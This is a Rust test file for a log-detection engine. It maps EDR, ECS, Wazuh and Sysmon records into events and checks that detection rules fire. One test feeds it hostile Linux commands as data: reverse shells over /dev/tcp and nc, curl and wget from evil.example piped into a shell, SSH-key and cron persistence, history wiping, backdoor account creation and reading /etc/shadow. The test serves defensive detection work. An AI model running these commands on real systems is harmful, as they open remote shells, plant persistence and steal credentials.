    // A wrapped list of distinct values: every value keeps its dotted name, the bare name
    // only the first ones.
    let ev =
        Event::from_value(&json!({"event_data": {"W": {"L": (0..5_000).collect::<Vec<u32>>()}}}));
    assert_eq!(ev.lower_values("w.l").count(), 5_000);
    let bare = ev.lower_values("l").count();
    assert!((1..=1_024).contains(&bare), "{bare}");
    assert_eq!(ev.get("L"), Some("0"));
    // A 1 MiB alert of one wrapped list: seconds, not the minutes it took when each
    // value's bare name was looked up among all the fields (no timing is asserted: the
    // machine is shared; a quadratic regression shows as a test that runs for minutes).
    let a = alert(json!({
        "alert_id": "A5", "source": "siem", "severity": "low", "title": "t",
        "timestamp": "2026-01-01T00:00:00Z",
        "raw_log": {"event_data": {"W": {"L": vec![0; 500_000]}}}
    }));
    let ev = &Event::from_alert(&a)[0];
    assert_eq!(ev.get("L"), Some("0"));
    // Many values of one field (with spaces in its name: a fallback name for each), all
    // distinct or all the same, are linear too.
    let distinct = Event::from_value(&json!({"A B": (0..100_000).collect::<Vec<u32>>()}));
    assert_eq!(distinct.lower_values("a b").count(), 100_000);
    assert_eq!(distinct.get("AB"), Some("0"));
    let same = Event::from_value(&json!({"A B": vec![0; 500_000]}));
    assert_eq!(same.lower_values("ab").count(), 1);
}

#[test]
fn native_alert_mapping() {
    let a = alert(json!({
        "alert_id": "A3", "source": "edr", "severity": "high", "title": "t",
        "timestamp": "2026-01-01T00:00:00Z",
        "raw_log": {"event_type": "process_creation", "host": "ws1", "user": "CORP\\bob",
            "parent_process": "WINWORD.EXE", "process": "powershell.exe",
            "command_line": "powershell -enc AAAA", "file_path": "C:\\t.txt"}
    }));
    let ev = &Event::from_alert(&a)[0];
    assert_eq!(ev.get("Image"), Some("powershell.exe"));
    assert_eq!(ev.get("ParentImage"), Some("WINWORD.EXE"));
    assert_eq!(ev.get("CommandLine"), Some("powershell -enc AAAA"));
    assert_eq!(ev.get("User"), Some("CORP\\bob"));
    assert_eq!(ev.get("Computer"), Some("ws1"));
    assert_eq!(ev.get("TargetFilename"), Some("C:\\t.txt"));
    assert_eq!(ev.get("process"), Some("powershell.exe"), "own names kept");
    assert_eq!(ev.logsource().category.as_deref(), Some("process_creation"));
    assert_eq!(ev.logsource().product.as_deref(), Some("windows"));
    assert!(!ev.logsource_is_exact());
    // process_path wins over the basename.
    let ev = Event::from_value(&json!({"process": "a.exe", "process_path": "C:\\x\\a.exe"}));
    assert_eq!(ev.get("Image"), Some("C:\\x\\a.exe"));
}

#[test]
fn ecs_mapping_and_inference() {
    let v = json!({
        "@timestamp": "2026-01-01T00:00:00Z",
        "event": {"category": ["process"], "type": ["start"], "code": "1"},
        "host": {"name": "h1", "os": {"type": "windows"}},
        "process": {"executable": "C:\\w\\cmd.exe", "command_line": "cmd /c whoami",
                    "parent": {"executable": "C:\\w\\explorer.exe", "command_line": "explorer"}},
        "user": {"name": "bob"},
        "destination": {"ip": "1.2.3.4"},
        "dns": {"question": {"name": "x.example"}},
        "registry": {"path": "HKLM\\x"},
        "file": {"path": "C:\\f"}
    });
    let ev = Event::from_value(&v);
    for (k, want) in [
        ("Image", "C:\\w\\cmd.exe"),
        ("CommandLine", "cmd /c whoami"),
        ("ParentImage", "C:\\w\\explorer.exe"),
        ("ParentCommandLine", "explorer"),
        ("User", "bob"),
        ("DestinationIp", "1.2.3.4"),
        ("QueryName", "x.example"),
        ("TargetObject", "HKLM\\x"),
        ("TargetFilename", "C:\\f"),
        ("EventID", "1"),
        ("Computer", "h1"),
        ("process.executable", "C:\\w\\cmd.exe"),
    ] {
        assert_eq!(ev.get(k), Some(want), "{k}");
    }
    assert_eq!(ev.logsource().product.as_deref(), Some("windows"));
    assert_eq!(ev.logsource().category.as_deref(), Some("process_creation"));
    let net = Event::from_value(&json!({"event": {"category": "network"}}));
    assert_eq!(
        net.logsource().category.as_deref(),
        Some("network_connection")
    );
    let winlog = Event::from_value(&json!({"winlog": {"channel": "Security", "event_id": 4624,
        "event_data": {"LogonType": 3}}}));
    assert_eq!(winlog.get("LogonType"), Some("3"));
    assert_eq!(winlog.logsource().service.as_deref(), Some("security"));
    assert!(winlog.logsource_is_exact());
}

#[test]
fn wazuh_mapping() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../core/tests/fixtures/adapters/wazuh_alert_windows_sysmon_powershell.json");
    let a = Alert::from_json(&std::fs::read_to_string(path).unwrap(), &Limits::default()).unwrap();
    let ev = &Event::from_alert(&a)[0];
    assert_eq!(
        ev.get("Image"),
        Some("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
    );
    assert!(ev.get("CommandLine").unwrap().contains("-enc"));
    assert!(ev.get("ParentImage").unwrap().ends_with("WINWORD.EXE"));
    assert_eq!(ev.get("EventID"), Some("1"));
    assert_eq!(ev.logsource().category.as_deref(), Some("process_creation"));
    assert_eq!(ev.logsource().service.as_deref(), Some("sysmon"));
    let m = RuleSet::embedded().match_alert(&a);
    let titles: Vec<_> = m.iter().map(|m| m.rule.title.as_str()).collect();
    assert!(titles.len() >= 2, "{titles:?}");
    // A raw (unadapted) Wazuh record maps too.
    let raw = json!({"data": {"win": {"system": {"eventID": "11", "providerName": "Microsoft-Windows-Sysmon",
        "channel": "Microsoft-Windows-Sysmon/Operational"}, "eventdata": {"targetFilename": "C:\\x"}}}});
    let ev = Event::from_value(&raw);
    assert_eq!(ev.get("TargetFilename"), Some("C:\\x"));
    assert_eq!(ev.logsource().category.as_deref(), Some("file_event"));
}

#[test]
fn sysmon_and_security_logsource_inference() {
    let sysmon = |id: u32, extra: Value| {
        let mut v = json!({"Provider_Name": "Microsoft-Windows-Sysmon", "EventID": id,
            "Channel": "Microsoft-Windows-Sysmon/Operational"});
        if let (Some(o), Value::Object(e)) = (v.as_object_mut(), extra) {
            o.extend(e);
        }
        Event::from_value(&v).logsource().clone()
    };
    assert_eq!(
        sysmon(1, json!({})).category.as_deref(),
        Some("process_creation")
    );
    assert_eq!(
        sysmon(3, json!({})).category.as_deref(),
        Some("network_connection")
    );
    assert_eq!(
        sysmon(11, json!({})).category.as_deref(),
        Some("file_event")
    );
    assert_eq!(
        sysmon(13, json!({})).category.as_deref(),
        Some("registry_set")
    );
    assert_eq!(
        sysmon(12, json!({"EventType": "DeleteKey"}))
            .category
            .as_deref(),
        Some("registry_delete")
    );
    assert_eq!(sysmon(22, json!({})).category.as_deref(), Some("dns_query"));
    assert_eq!(sysmon(22, json!({})).service.as_deref(), Some("sysmon"));
    let sec = Event::from_value(&json!({"Channel": "Security", "EventID": 4688}));
    assert_eq!(
        sec.logsource().category.as_deref(),
        Some("process_creation")
    );
    let ps = Event::from_value(
        &json!({"Channel": "Microsoft-Windows-PowerShell/Operational", "EventID": 4104}),
    );
    assert_eq!(ps.logsource().category.as_deref(), Some("ps_script"));
    assert_eq!(ps.logsource().service.as_deref(), Some("powershell"));
    let def = Event::from_value(
        &json!({"Provider_Name": "Microsoft-Windows-Windows Defender", "EventID": 1116}),
    );
    assert_eq!(def.logsource().service.as_deref(), Some("windefend"));
    let ssh = Event::from_value(&json!({"log_source": "linux_auth", "program": "sshd"}));
    assert_eq!(ssh.logsource().product.as_deref(), Some("linux"));
    assert_eq!(ssh.logsource().service.as_deref(), Some("sshd"));
}

#[test]
fn routing_by_logsource() {
    let yaml = "title: R\nid: r\nlogsource: {product: windows, category: process_creation}\ndetection:\n    s:\n        CommandLine|contains: 'whoami'\n    condition: s\n---\ntitle: S\nid: s\nlogsource: {product: windows, service: security}\ndetection:\n    s:\n        CommandLine|contains: 'whoami'\n    condition: s\n---\ntitle: G\nid: g\nlogsource: {product: windows, category: registry_event}\ndetection:\n    s:\n        TargetObject|contains: 'run'\n    condition: s\n";
    let (set, _) = RuleSet::from_yaml(yaml, "r", true).unwrap();
    let ids = |v: Value| -> Vec<String> {
        set.matches(&Event::from_value(&v))
            .iter()
            .map(|m| m.rule.id.clone())
            .collect()
    };
    let sysmon1 = json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "CommandLine": "whoami"});
    assert_eq!(ids(sysmon1), vec!["r"]);
    let sec4688 = json!({"Channel": "Security", "EventID": 4688, "CommandLine": "whoami"});
    assert_eq!(ids(sec4688), vec!["r", "s"]);
    let unknown = json!({"CommandLine": "whoami"});
    assert_eq!(
        ids(unknown),
        vec!["r", "s"],
        "unknown source: every compatible rule"
    );
    let reg = json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 13, "TargetObject": "HKLM\\Run"});
    assert_eq!(ids(reg), vec!["g"], "registry_event covers registry_set");
}

#[test]
fn linux_command_lines_meet_the_linux_rules_and_admin_work_does_not() {
    let set = RuleSet::embedded();
    let titles = |cmd: &str| -> Vec<String> {
        let a = Alert::from_json(
            &json!({"alert_id": "L-1", "timestamp": "2026-04-19T03:14:22Z", "source": "edr", "severity": "high",
                    "title": "Process execution", "raw_log": {"event_type": "process_creation", "host": "web-3",
                    "image": "/usr/bin/bash", "command_line": cmd}})
            .to_string(),
            &Limits::default(),
        )
        .expect("alert");
        set.match_alert(&a)
            .into_iter()
            .filter(|m| m.rule.logsource.product.as_deref() == Some("linux"))
            .map(|m| m.rule.title.clone())
            .collect()
    };
    for (cmd, want) in [
        (
            "bash -i >& /dev/tcp/45.83.64.12/4444 0>&1",
            "Interactive Shell Bound To A Network Socket",
        ),
        (
            "nc -e /bin/sh 45.83.64.12 4444",
            "Interactive Shell Bound To A Network Socket",
        ),
        (
            "curl -fsSL http://45.83.64.12/x.sh | bash",
            "Remote Script Piped Straight Into A Shell",
        ),
        (
            "wget -qO- https://evil.example/i | sudo sh",
            "Remote Script Piped Straight Into A Shell",
        ),
        (
            "echo YmFzaCAtaQ== | base64 -d | bash",
            "Base64 Payload Decoded Into A Shell",
        ),
        (
            "echo ssh-ed25519 AAAAC3Nz attacker >> /root/.ssh/authorized_keys",
            "SSH Authorized Keys Changed From The Command Line",
        ),
        (
            "(crontab -l; echo '* * * * * /tmp/.x') | crontab -",
            "Cron Job Written From The Command Line",
        ),
        (
            "echo '*/5 * * * * root /tmp/m' >> /etc/cron.d/sys",
            "Cron Job Written From The Command Line",
        ),
        (
            "unset HISTFILE; history -c",
            "Shell History Cleared Or Disabled",
        ),
        (
            "rm -f /root/.bash_history",
            "Shell History Cleared Or Disabled",
        ),
        (
            "useradd -m -s /bin/bash backup2",
            "Local Account Created Or Given Administrator Rights",
        ),
        (
            "usermod -aG sudo backup2",
            "Local Account Created Or Given Administrator Rights",
        ),
        ("cat /etc/shadow", "Password Hashes Read Or Copied"),
    ] {
        assert!(
            titles(cmd).iter().any(|t| t == want),
            "{cmd}: {:?}",
            titles(cmd)
        );
    }
    for benign in [
        "ls -la /etc/cron.d",
        "curl -fsSL https://example.org/file.tar.gz -o file.tar.gz",
        "cat /etc/passwd",
        "history | tail",
        "ssh-keygen -t ed25519",
        "systemctl restart nginx",
        "grep sudo /var/log/auth.log",
    ] {
        assert!(titles(benign).is_empty(), "{benign}: {:?}", titles(benign));
    }
}

#[test]
fn wmic_remote_node_rule_leaves_local_targets_alone() {
    let set = RuleSet::embedded();
    let remote = |cmd: &str| -> bool {
        let ev = Event::from_value(&json!({"Channel": "Microsoft-Windows-Sysmon/Operational",
            "EventID": 1, "Image": "C:\\Windows\\System32\\wbem\\WMIC.exe", "CommandLine": cmd}));
        set.matches(&ev)
            .iter()
            .any(|m| m.rule.title == "WMIC Aimed At A Remote Host")
    };
    for node in [
        "/node:127.0.0.1",
        "/node:localhost",
        "/node:\"localhost\"",
        "/node:.",
        "/node:\".\"",
        "/node:::1",
        "-node:\"::1\"",
        "/node:127.0.0.1,localhost",
        "/NODE:\"localhost, 127.0.0.1\"",
        "-node:.,::1",
        "/node:127.0.0.1,localhost,.",
    ] {
        assert!(
            !remote(&format!("wmic {node} process call create calc.exe")),
            "{node}"
        );
    }
    for node in [
        "/node:srv-db2",
        "/node:127.0.0.1,srv-db2",
        "/node:\"localhost, srv-db2\"",
        "/node:localhost,127.0.0.10",
        "/node:127.0.0.1,.srv",
        "/node:@hosts.txt",
    ] {
        assert!(
            remote(&format!("wmic {node} process call create calc.exe")),
            "{node}"
        );
    }
}

#[test]
fn tags_of_a_newer_attack_release_give_the_catalogs_techniques_once() {
    let yaml = "title: T\nid: newer-tags\nlogsource:\n    product: windows\ndetection:\n    sel:\n        EventID: 1102\n    condition: sel\nlevel: high\ntags:\n    - attack.defense-impairment\n    - attack.t1685.005\n    - attack.t1070.001\n    - attack.t1685\n    - attack.t1059.001\n";
    let (set, _) = RuleSet::from_yaml(yaml, "inline", true).expect("loads");
    let rule = set.rules().next().expect("one rule");
    assert_eq!(
        rule.attack_techniques(),
        ["T1070.001", "T1562.001", "T1059.001"],
        "v19 ids translated, the duplicate kept once, other ids as they are"
    );
}
